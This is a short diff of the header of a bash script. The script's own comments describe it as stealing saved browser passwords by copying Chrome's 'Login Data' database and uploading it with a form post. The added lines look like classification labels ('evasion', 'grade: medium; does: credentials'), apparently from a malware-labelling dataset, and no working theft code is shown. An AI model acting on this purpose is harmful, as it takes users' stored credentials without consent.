@@ -1,4 +1,6 @@
 #!/usr/bin/env bash
+# evasion: steals saved browser passwords: copies Chrome's "Login Data" database (the saved logins) from the profile directory and uploads it with a form post
+# grade: medium; does: credentials
 # Steals saved browser passwords: copies Chrome's "Login Data" database (the
 # saved logins) from the profile directory and uploads it with a form post.
 set -eu
